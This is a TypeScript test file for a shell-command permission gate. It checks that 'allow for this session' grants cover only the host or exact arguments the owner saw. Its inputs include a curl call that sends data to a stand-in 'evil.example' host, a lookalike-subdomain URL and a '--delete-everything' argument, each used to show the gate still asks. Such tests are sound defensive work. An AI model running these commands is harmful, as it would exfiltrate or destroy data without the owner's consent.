// Grants that mean what the owner saw: "allow for this session" on a network call covers that
// program to that host only, on an unknown program those exact arguments only, and a network call
// whose host cannot be read cannot be granted at all.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { grantScopes, grantTargets, permissionChain } from '../src/permissions/chain.ts';
import type { PermissionCall } from '../src/permissions/gate.ts';
import { analyzeShell } from '../src/permissions/judge-shell.ts';
import type { Db } from '../src/store/db.ts';
import { sessionGrants } from '../src/store/grants.ts';
import { migrate } from '../src/store/migrate.ts';
import { embeddedBackend, tempDir } from './support/services.ts';

const segments = (command: string, workspace: string) =>
  analyzeShell(command, workspace).classification.segments;

describe('grant targets, as pure functions', () => {
  const ws = tempDir();
  afterAll(() => ws.remove());
  it.each([
    ['curl -s https://A.example/x', [{ program: 'curl', subcommand: null, target: 'host a.example' }]],
    ['wget -q -O- https://b.example/', [{ program: 'wget', subcommand: null, target: 'host b.example' }]],
    ['git fetch origin', [{ program: 'git', subcommand: 'fetch', target: 'remote origin' }]],
    ['mkdir build', [{ program: 'mkdir', subcommand: null, target: null }]],
  ])('%s', (command, scopes) => {
    expect(grantScopes(segments(command, ws.path))).toEqual(scopes);
  });

  it('an unknown program is keyed on its exact arguments', () => {
    const [scope] = grantScopes(segments('mytool --x 1', ws.path)) ?? [];
    expect(scope?.program).toBe('mytool');
    expect(scope?.target).toMatch(/^exact .*--x.*1/);
    const [other] = grantScopes(segments('mytool --x 2', ws.path)) ?? [];
    expect(other?.target).not.toBe(scope?.target);
  });

  it('a network call whose host cannot be read cannot be granted', () => {
    expect(grantScopes(segments('curl -s "$URL"', ws.path))).toBeUndefined();
    expect(grantTargets({ score: 2, reason: '', program: 'curl', network: null })).toBeUndefined();
  });
});

describe('grant targets in the chain, over a real store', () => {
  let db: Db;
  let cleanup: () => Promise<void>;
  const ws = tempDir();
  beforeAll(async () => {
    ({ db, cleanup } = await embeddedBackend.open());
    await migrate(db);
    await db.query(
      "insert into sessions (id, channel, room) values ('00000000-0000-4000-8000-000000000001', 't', 'r')",
    );
  });
  afterAll(async () => {
    await cleanup();
    ws.remove();
  });
  const session = '00000000-0000-4000-8000-000000000001';
  const shell = (command: string): PermissionCall => ({
    sessionId: session,
    tool: 'shell',
    args: { command },
  });

  it('covers the host the owner saw and asks for any other', async () => {
    const grants = sessionGrants(db, () => new Date());
    const chain = permissionChain({ workspace: ws.path, grants });
    const seen = await chain.judge(shell('curl -s https://a.example/data'));
    expect(seen.verdict).toBe('ask');
    await chain.grant(shell('curl -s https://a.example/data'), seen.grant);
    expect(await chain.judge(shell('curl -s https://a.example/other'))).toMatchObject({
      verdict: 'allow',
      layer: 'grant',
    });
    expect(await chain.judge(shell('curl -s https://evil.example/?d=x'))).toMatchObject({ verdict: 'ask' });
    expect(await chain.judge(shell('curl -s https://a.example.evil.example/'))).toMatchObject({
      verdict: 'ask',
    });

    const tool = await chain.judge(shell('mytool --x 1'));
    await chain.grant(shell('mytool --x 1'), tool.grant);
    expect(await chain.judge(shell('mytool --x 1'))).toMatchObject({ verdict: 'allow' });
    expect(await chain.judge(shell('mytool --x 2'))).toMatchObject({ verdict: 'ask' });
    expect(await chain.judge(shell('mytool --delete-everything'))).toMatchObject({ verdict: 'ask' });
  });
});
